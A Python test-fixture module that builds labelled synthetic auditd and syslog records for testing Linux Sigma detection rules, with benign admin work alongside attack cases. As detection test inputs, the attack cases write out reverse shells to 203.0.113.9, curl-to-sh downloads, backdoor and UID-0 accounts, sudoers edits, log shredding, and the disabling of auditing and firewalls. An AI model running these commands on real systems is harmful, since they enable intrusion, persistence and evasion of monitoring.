# ruff: noqa: E501 - a table of raw log lines and commands reads best one case per line
"""A labelled audit + syslog corpus of our own: ordinary admin and service work with attacks among it.

Each :class:`Case` is one thing that happened on a host (raw auditd or syslog lines) and the rule ids
that must (attack) or must not (benign) fire on it. Used by the rule-pack tests, the differential tests'
corpus and bench/bench_sigma.py.
"""

from __future__ import annotations

from dataclasses import dataclass, field

_SYSCALLS = {"execve": 59, "openat": 257, "chmod": 90, "fchmodat": 268, "init_module": 175, "finit_module": 313,
             "connect": 42, "unlink": 87, "rename": 82, "setxattr": 188}  # fmt: skip
_O_WRONLY_CREAT_TRUNC = 0o1 | 0o100 | 0o1000


def _hex(text: str) -> str:
    return text.encode().hex().upper()


@dataclass
class AuditWriter:
    """Writes raw audit records for one host, numbering events and advancing time."""

    host: str
    serial: int = 1000
    clock: float = 1795766400.0
    lines: list[str] = field(default_factory=list)

    def _ids(self, pid: int, ppid: int, uid: int, euid: int, auid: int, ses: int) -> str:
        return (
            f"ppid={ppid} pid={pid} auid={auid} uid={uid} gid={uid} euid={euid} suid={euid} fsuid={euid} "
            f"egid={uid} sgid={uid} fsgid={uid} tty=pts0 ses={ses}"
        )

    def _head(self, kind: str) -> str:
        return f"node={self.host} type={kind} msg=audit({self.clock:.3f}:{self.serial}):"

    def _next(self) -> None:
        self.lines.append(self._head("EOE"))
        self.serial += 1
        self.clock += 1.0

    def execve(
        self, argv: list[str], *, pid: int, ppid: int, exe: str = "", cwd: str = "/root", uid: int = 0,
        euid: int | None = None, auid: int = 1000, ses: int = 7, key: str = "exec",
    ) -> None:  # fmt: skip
        exe = exe or (argv[0] if argv[0].startswith("/") else f"/usr/bin/{argv[0]}")
        comm = exe.rsplit("/", 1)[-1][:15]
        euid = uid if euid is None else euid
        self.lines.append(
            f"{self._head('SYSCALL')} arch=c000003e syscall=59 success=yes exit=0 a0=55d0c3f0a2b0 a1=55d0c3f0a2d8 "
            f'a2=55d0c3f0a300 a3=8 items=2 {self._ids(pid, ppid, uid, euid, auid, ses)} comm="{comm}" '
            f'exe="{exe}" subj=unconfined key="{key}"'
        )
        args = " ".join(f"a{i}={_hex(arg)}" for i, arg in enumerate(argv))
        self.lines.append(f"{self._head('EXECVE')} argc={len(argv)} {args}")
        self.lines.append(f'{self._head("CWD")} cwd="{cwd}"')
        self.lines.append(
            f'{self._head("PATH")} item=0 name="{exe}" inode=4242 dev=08:01 mode=0100755 ouid=0 ogid=0 '
            "rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
        )
        self.lines.append(f"{self._head('PROCTITLE')} proctitle={_hex(chr(0).join(argv))[:256]}")
        self._next()

    def syscall(
        self, name: str, *, pid: int, ppid: int, exe: str, paths: list[tuple[str, str]] = (),  # type: ignore[assignment]
        a0: str = "3", a1: str = "0", a2: str = "0", uid: int = 0, auid: int = 1000, ses: int = 7,
        key: str = "", cwd: str = "/root", success: str = "yes",
    ) -> None:  # fmt: skip
        comm = exe.rsplit("/", 1)[-1][:15]
        key_field = f'key="{key}"' if key else "key=(null)"
        self.lines.append(
            f"{self._head('SYSCALL')} arch=c000003e syscall={_SYSCALLS[name]} success={success} exit=0 a0={a0} "
            f'a1={a1} a2={a2} a3=0 items={len(paths)} {self._ids(pid, ppid, uid, uid, auid, ses)} comm="{comm}" '
            f'exe="{exe}" subj=unconfined {key_field}'
        )
        self.lines.append(f'{self._head("CWD")} cwd="{cwd}"')
        for item, (path, nametype) in enumerate(paths):
            self.lines.append(
                f'{self._head("PATH")} item={item} name="{path}" inode=77{item} dev=08:01 mode=0100600 ouid=0 '
                f"ogid=0 rdev=00:00 nametype={nametype} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
            )
        self._next()

    def open_write(self, path: str, *, pid: int, ppid: int, exe: str, uid: int = 0, new: bool = True) -> None:
        parent = path.rsplit("/", 1)[0] or "/"
        paths = [(parent, "PARENT"), (path, "CREATE" if new else "NORMAL")]
        flags = format(_O_WRONLY_CREAT_TRUNC, "x")
        self.syscall(
            "openat", pid=pid, ppid=ppid, exe=exe, paths=paths, a0="ffffff9c", a1="7ffd0000", a2=flags, uid=uid
        )

    def open_read(self, path: str, *, pid: int, ppid: int, exe: str, key: str = "", uid: int = 0) -> None:
        self.syscall("openat", pid=pid, ppid=ppid, exe=exe, paths=[(path, "NORMAL")], a0="ffffff9c", a2="0",
                     key=key, uid=uid)  # fmt: skip

    def record(self, kind: str, body: str, *, pid: int, uid: int = 0, auid: int = 1000, ses: int = 7) -> None:
        self.lines.append(f"{self._head(kind)} pid={pid} uid={uid} auid={auid} ses={ses} subj=unconfined msg='{body}'")
        self.serial += 1
        self.clock += 1.0


@dataclass
class Case:
    """One labelled activity: its raw lines and what must (or must not) fire on them."""

    name: str
    audit: list[str] = field(default_factory=list)
    syslog: list[str] = field(default_factory=list)
    expect: tuple[str, ...] = ()
    """Rule ids of which at least one must fire (empty: a benign case, where no project rule may fire)."""


def _audit_case(name: str, host: str, build: object, expect: tuple[str, ...] = (), serial: int = 1000) -> Case:
    writer = AuditWriter(host, serial=serial)
    build(writer)  # type: ignore[operator]
    return Case(name, audit=writer.lines, expect=expect)


def syslog_line(host: str, program: str, pid: int, message: str, facility: int = 10, second: int = 0) -> str:
    return f"<{facility * 8 + 5}>1 2026-11-27T09:00:{second:02d}Z {host} {program} {pid} - - {message}"


def _rid(number: int) -> str:
    """The id of project rule SS-LNX-<number> (processors/detect/data/sigma/*.yml)."""
    return f"5ec57ea0-0000-4000-8000-{number:012d}"


def cases() -> list[Case]:
    """Every labelled case, attacks and benign work on three hosts."""
    out: list[Case] = []
    serial = iter(range(20000, 10**9, 100))

    def audit(name: str, host: str, expect: tuple[int, ...], build: object) -> None:
        out.append(_audit_case(name, host, build, tuple(_rid(n) for n in expect), serial=next(serial)))

    def shell(argv: list[str], **kw: object) -> object:
        return lambda w: w.execve(argv, pid=4000, ppid=3999, **kw)

    # -- the 14 command-line rules, now Sigma -------------------------------------------------------
    audit("curl piped to sh", "web-02", (1,), shell(["bash", "-c", "curl -fsSL http://203.0.113.9/i.sh | sh"]))
    audit("wget into sh -c $()", "web-02", (1,), shell(["sh", "-c", 'sh -c "$(wget -qO- http://x.test/a)"']))
    audit("base64 -d piped to bash", "web-02", (2,), shell(["bash", "-c", "echo ZWNobyBoaQ== | base64 -d | bash"]))
    audit("/dev/tcp reverse shell", "web-02", (3,), shell(["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"]))
    audit("nc -e", "web-02", (4,), shell(["nc", "-e", "/bin/sh", "203.0.113.9", "4444"]))
    audit(
        "mkfifo nc relay",
        "web-02",
        (4,),
        shell(["sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 80 > /tmp/f"]),
    )
    audit("socat exec", "web-02", (5,), shell(["socat", "TCP:203.0.113.9:443", "EXEC:/bin/bash"]))
    audit(
        "python reverse shell",
        "web-02",
        (6,),
        shell(
            [
                "python3",
                "-c",
                "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',443));os.dup2(s.fileno(),0);pty.spawn('sh')",
            ]
        ),
    )
    audit(
        "authorized_keys appended by a command",
        "web-02",
        (7,),
        shell(["bash", "-c", "echo ssh-ed25519 AAAA... >> /root/.ssh/authorized_keys"]),
    )
    audit("system log shredded", "web-02", (8,), shell(["shred", "-u", "/var/log/auth.log"]))
    audit("journal vacuumed", "web-02", (8,), shell(["journalctl", "--vacuum-time=1s"]))
    audit("history cleared", "web-02", (9,), shell(["bash", "-c", "unset HISTFILE; history -c"]))
    audit("fork bomb", "web-02", (10,), shell(["bash", "-c", ":(){ :|:& };:"]))
    audit("useradd", "web-02", (11,), shell(["useradd", "-m", "backdoor"]))
    audit(
        "sudoers NOPASSWD", "web-02", (12,), shell(["bash", "-c", "echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"])
    )
    audit("usermod into sudo", "web-02", (12,), shell(["usermod", "-aG", "sudo", "backdoor"]))
    audit("crontab from stdin", "web-02", (13,), shell(["bash", "-c", "echo '* * * * * /tmp/x' | crontab -"]))
    # -- what happens inside a root shell -----------------------------------------------------------
    audit("UID-0 account by useradd -o -u 0", "db-02", (11, 15), shell(["useradd", "-o", "-u", "0", "-g", "0", "toor"]))
    audit(
        "UID-0 line appended to /etc/passwd",
        "db-02",
        (15,),
        lambda w: (w.execve(["bash", "-c", "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd"], pid=4100, ppid=4099),),
    )
    audit(
        "/etc/passwd written by a shell",
        "db-02",
        (45,),
        lambda w: (w.open_write("/etc/passwd", pid=4101, ppid=4099, exe="/usr/bin/bash", new=False),),
    )
    audit("SUID bit set", "db-02", (16,), shell(["chmod", "u+s", "/tmp/.sh"]))
    audit("SGID octal mode", "db-02", (16,), shell(["chmod", "2755", "/usr/local/bin/tool"]))
    audit("setenforce 0", "db-02", (17,), shell(["setenforce", "0"]))
    audit(
        "SELinux disabled in config",
        "db-02",
        (17,),
        shell(["sed", "-i", "s/SELINUX=enforcing/SELINUX=disabled/", "/etc/selinux/config"]),
    )
    audit("AppArmor stopped", "db-02", (17,), shell(["systemctl", "stop", "apparmor"]))
    audit("iptables flushed", "db-02", (18,), shell(["iptables", "-F"]))
    audit("nft ruleset flushed", "db-02", (18,), shell(["nft", "flush", "ruleset"]))
    audit("ufw disabled", "db-02", (18,), shell(["ufw", "disable"]))
    audit("audit rules deleted", "db-02", (19,), shell(["auditctl", "-D"]))
    audit("auditing disabled", "db-02", (19,), shell(["auditctl", "-e", "0"]))
    audit("auditd stopped", "db-02", (19,), shell(["systemctl", "stop", "auditd"]))
    audit(
        "auditd SERVICE_STOP record",
        "db-02",
        (39,),
        lambda w: w.record(
            "SERVICE_STOP",
            'unit=auditd comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success',
            pid=1,
            uid=0,
        ),
    )
    audit("insmod", "db-02", (20,), shell(["insmod", "/tmp/rootkit.ko"]))
    audit(
        "finit_module syscall",
        "db-02",
        (40,),
        lambda w: w.syscall("finit_module", pid=4200, ppid=4199, exe="/tmp/.loader", key="modules"),
    )
    audit(
        "ld.so.preload written",
        "db-02",
        (21,),
        lambda w: w.open_write("/etc/ld.so.preload", pid=4300, ppid=4299, exe="/usr/bin/bash"),
    )
    audit(
        "LD_PRELOAD on a command line",
        "db-02",
        (41,),
        shell(["bash", "-c", "LD_PRELOAD=/tmp/hook.so /usr/bin/ssh host"]),
    )
    audit(
        "systemd unit dropped",
        "db-02",
        (22,),
        lambda w: w.open_write("/etc/systemd/system/updater.service", pid=4400, ppid=4399, exe="/usr/bin/bash"),
    )
    audit(
        "cron file dropped",
        "db-02",
        (23,),
        lambda w: w.open_write("/etc/cron.d/updater", pid=4500, ppid=4499, exe="/usr/bin/bash"),
    )
    audit(
        "authorized_keys by shell redirection",
        "db-02",
        (24,),
        lambda w: w.open_write("/root/.ssh/authorized_keys", pid=4600, ppid=4599, exe="/usr/bin/bash", new=False),
    )
    audit("shadow read by cat", "db-02", (46,), shell(["cat", "/etc/shadow"]))
    audit(
        "shadow opened by python",
        "db-02",
        (25,),
        lambda w: w.open_read("/etc/shadow", pid=4700, ppid=4699, exe="/usr/bin/python3.11"),
    )
    audit(
        "bash connects out",
        "db-02",
        (26,),
        lambda w: w.lines.extend(_connect_lines(w, "/usr/bin/bash", "203.0.113.9", 4444)),
    )
    # -- ordinary work: nothing of the project's pack may fire ---------------------------------------
    audit("admin sudo -i", "web-02", (), shell(["sudo", "-i"], uid=1000, euid=0))
    audit(
        "logrotate of /var/log/app",
        "web-02",
        (),
        lambda w: (
            w.execve(["/usr/sbin/logrotate", "/etc/logrotate.conf"], pid=5000, ppid=1),
            w.execve(["rm", "-f", "/var/log/app/app.log.5.gz"], pid=5001, ppid=5000),
            w.execve(["find", "/var/log/app", "-name", "*.gz", "-mtime", "+7", "-delete"], pid=5002, ppid=5000),
        ),
    )
    audit(
        "app log truncated by the app's script", "web-02", (), shell(["truncate", "-s", "0", "/var/log/app/debug.log"])
    )
    audit(
        "package manager writes a unit",
        "web-02",
        (),
        lambda w: w.open_write("/lib/systemd/system/nginx.service", pid=5100, ppid=5099, exe="/usr/bin/dpkg"),
    )
    audit(
        "sshd reads shadow", "web-02", (), lambda w: w.open_read("/etc/shadow", pid=5200, ppid=1, exe="/usr/sbin/sshd")
    )
    audit(
        "unix_chkpwd reads shadow",
        "web-02",
        (),
        lambda w: w.open_read("/etc/shadow", pid=5201, ppid=5200, exe="/usr/sbin/unix_chkpwd"),
    )
    audit(
        "udev loads a module",
        "web-02",
        (),
        lambda w: w.execve(["/sbin/modprobe", "-q", "snd_hda_intel"], pid=5300, ppid=400, exe="/usr/bin/kmod"),
    )
    audit("chmod 755 of a script", "web-02", (), shell(["chmod", "755", "/opt/app/run.sh"]))
    audit("iptables list", "web-02", (), shell(["iptables", "-L", "-n"]))
    audit("auditctl list", "web-02", (), shell(["auditctl", "-l"]))
    audit("curl to a file", "web-02", (), shell(["curl", "-fsSLo", "/tmp/pkg.tgz", "https://example.org/pkg.tgz"]))
    audit("backup", "db-02", (), shell(["pg_dump", "-Fc", "appdb"]))
    audit(
        "ssh-keygen writes own key",
        "web-02",
        (),
        lambda w: w.open_write("/home/alice/.ssh/id_ed25519", pid=5400, ppid=5399, exe="/usr/bin/ssh-keygen", uid=1000),
    )
    audit("systemctl status", "web-02", (), shell(["systemctl", "status", "auditd"]))
    audit(
        "python connects to a database",
        "db-02",
        (),
        lambda w: w.lines.extend(_connect_lines(w, "/usr/bin/python3.11", "10.0.0.5", 5432)),
    )
    # -- syslog ---------------------------------------------------------------------------------------
    out.append(
        Case(
            "new UID-0 user in syslog",
            syslog=[
                syslog_line(
                    "db-02",
                    "useradd",
                    4800,
                    "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1",
                )
            ],
            expect=(_rid(31), _rid(35)),
        )
    )
    out.append(
        Case(
            "user added to group wheel",
            syslog=[syslog_line("db-02", "usermod", 4801, "add 'backdoor' to group 'wheel'", second=1)],
            expect=(_rid(32),),
        )
    )
    out.append(
        Case(
            "crontab replaced",
            syslog=[syslog_line("db-02", "crontab", 4802, "(root) REPLACE (root)", facility=9, second=2)],
            expect=(_rid(33),),
        )
    )
    out.append(
        Case(
            "admin sudo -i in syslog",
            syslog=[
                syslog_line(
                    "web-02",
                    "sudo",
                    5500,
                    "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
                    second=3,
                )
            ],
        )
    )
    out.append(
        Case(
            "cron session",
            syslog=[
                syslog_line(
                    "web-02",
                    "CRON",
                    5501,
                    "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
                    second=4,
                )
            ],
        )
    )
    return out


def _connect_lines(writer: AuditWriter, exe: str, ip: str, port: int) -> list[str]:
    head = writer._head
    family_port = "0200" + format(port, "04X") + "".join(f"{int(part):02X}" for part in ip.split(".")) + "0" * 16
    lines = [
        f"{head('SYSCALL')} arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=7ffd5e1c2b30 a2=10 a3=0 items=0 "
        f"ppid=4999 pid=5999 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=7 "
        f'comm="{exe.rsplit("/", 1)[-1]}" exe="{exe}" subj=unconfined key="network"',
        f"{head('SOCKADDR')} saddr={family_port}",
        f"{head('EOE')}",
    ]
    writer.serial += 1
    writer.clock += 1.0
    return lines
